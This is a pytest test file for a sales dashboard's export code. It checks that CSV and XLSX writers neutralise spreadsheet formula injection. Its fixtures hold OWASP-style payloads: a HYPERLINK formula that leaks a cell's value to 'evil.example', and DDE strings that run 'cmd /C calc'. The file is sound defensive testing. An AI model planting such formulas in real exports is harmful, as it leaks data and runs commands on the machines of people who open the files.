"""No export carries a formula (issue 15): the one neutralising function and every writer
that goes through it — report CSV and XLSX, records.csv, the rejects CSV, the CLI's CSV.

The payloads are OWASP's CSV-injection examples: a HYPERLINK that leaks a neighbouring
cell, a DDE command, and each dangerous first character.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from cruscotto.engine import Period
from cruscotto.ingest import ImportReport, Reject
from cruscotto.reports.export import to_csv, to_xlsx
from cruscotto.reports.report import Column, Report, ReportTable
from cruscotto.safe_cells import FORMULA_PREFIXES, csv_writer, neutralise

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PAYLOADS = {
    "=": HYPERLINK,
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_each_dangerous_first_character_is_neutralised(prefix):
    payload = PAYLOADS[prefix]
    assert payload.startswith(prefix)
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-12.5", "-1.234,5", "+39", "-7,5 %", "-1e-3", "- 3"])
def test_plain_numbers_written_as_text_stay_numbers(number):
    # A number runs nothing; an apostrophe would turn "-7,5" into text in Italian Excel.
    assert neutralise(number) == number


@pytest.mark.parametrize("value", ["Acme", "", None, -5, 2.5, date(2026, 3, 1), "a=b", "x-1"])
def test_other_values_are_unchanged(value):
    assert neutralise(value) == value


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["name", "amount"])
    writer.writerows([[HYPERLINK, -3], ["@x", "-4"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "amount"],
        ["'" + HYPERLINK, "-3"],
        ["'@x", "-4"],
    ]


# -- report CSV and XLSX (the leaderboard's shape) ----------------------------------------


def leaderboard() -> Report:
    columns = [Column("rep", "Rep"), Column("team", "Team"), Column("won", "Won", "count")]
    frame = pd.DataFrame({"rep": [HYPERLINK, "Anna"], "team": ["@North", "+South"], "won": [2, -1]})
    return Report(
        name="leaderboard",
        title="Sales performance leaderboard",
        period=Period.parse("2026-03"),
        currency="EUR",
        tables=[ReportTable("reps", "Deals per rep", columns, frame)],
        filters={"team": ["=1+1"]},
    )


def test_report_csv_cells_are_neutralised():
    rows = list(csv.reader(io.StringIO(to_csv(leaderboard()))))
    assert rows[1] == ["'" + HYPERLINK, "'@North", "2"]
    assert rows[2] == ["Anna", "'+South", "-1"]  # -1 is a number: unchanged


def test_xlsx_leaderboard_writes_the_hyperlink_as_text_not_a_formula():
    content = to_xlsx(leaderboard())
    # Independent of openpyxl's reader: the sheet XML holds no formula element at all.
    with zipfile.ZipFile(io.BytesIO(content)) as xlsx:
        sheets = [n for n in xlsx.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in xlsx.read(name) and b"<f " not in xlsx.read(name)
    book = load_workbook(io.BytesIO(content))
    cell = book["reps"]["A2"]
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")  # the text, exactly, as text
    assert book["reps"]["C3"].value == -1 and book["reps"]["C3"].data_type == "n"
    about = {row[0].value: row[1].value for row in book["About"].iter_rows(min_row=2)}
    assert about["Filter: team"] == "=1+1"
    assert book["About"]["B6"].data_type == "s"


# -- the rejects CSV ----------------------------------------------------------------------


def test_rejects_csv_neutralises_the_refused_value(tmp_path):
    report = ImportReport(
        rejects=[Reject("deals.csv", 7, "amount", HYPERLINK, "amount: not a number")]
    )
    path = report.write_rejects_csv(tmp_path / "rejects.csv")
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[1] == ["deals.csv", "7", "amount", "'" + HYPERLINK, "amount: not a number"]


# -- records.csv on the web and the CLI's CSV, over a company whose data carries payloads --


@pytest.fixture
def poisoned(tmp_path):
    from cruscotto.warehouse import connect
    from tests.web.data import frame

    warehouse = connect(str(tmp_path / "p.duckdb"))
    warehouse.load(
        {
            "reps": frame("reps", [{"rep_id": "r1", "name": "Anna", "team": "N", "active": True}]),
            "leads": frame(
                "leads",
                [
                    {
                        "lead_id": "L1",
                        "owner_id": "r1",
                        "channel": HYPERLINK,
                        "created_at": datetime(2026, 3, 5, 10),
                    },
                    {
                        "lead_id": "@L2",
                        "owner_id": "r1",
                        "channel": "web",
                        "created_at": datetime(2026, 3, 6, 10),
                    },
                ],
            ),
        }
    )
    yield tmp_path / "p.duckdb", warehouse
    warehouse.close()


def test_records_csv_neutralises_cells(poisoned, monkeypatch):
    from argon2 import PasswordHasher

    from cruscotto.settings import CompanySettings
    from cruscotto.web import create_app, users
    from tests.web.conftest import PASSWORDS, add_users, login
    from tests.web.data import TODAY

    monkeypatch.setattr(users, "_hasher", PasswordHasher(time_cost=1, memory_cost=256))
    _, warehouse = poisoned
    app = create_app(warehouse, CompanySettings(), today=TODAY)
    add_users(app)
    assert PASSWORDS["admin"]
    response = login(app, "admin").get("/api/kpi/new_leads/records.csv?period=2026-03")
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    by_lead = {r["Lead"]: r for r in rows}  # headers in the reader's language (web.records)
    assert by_lead["L1"]["Channel"] == "'" + HYPERLINK
    assert "'@L2" in by_lead


def test_cli_kpi_csv_neutralises_cells(poisoned, monkeypatch, tmp_path):
    from cruscotto.cli import app as cli

    db, warehouse = poisoned
    warehouse.close()
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(
        cli,
        ["--db", str(db), "kpi", "show", "new_leads", "--period", "2026-03"]
        + ["--by", "channel", "--format", "csv"],
    )
    assert result.exit_code == 0, result.output
    groups = [row[1] for row in csv.reader(io.StringIO(result.output))][1:]
    assert sorted(groups) == sorted(["'" + HYPERLINK, "web"])
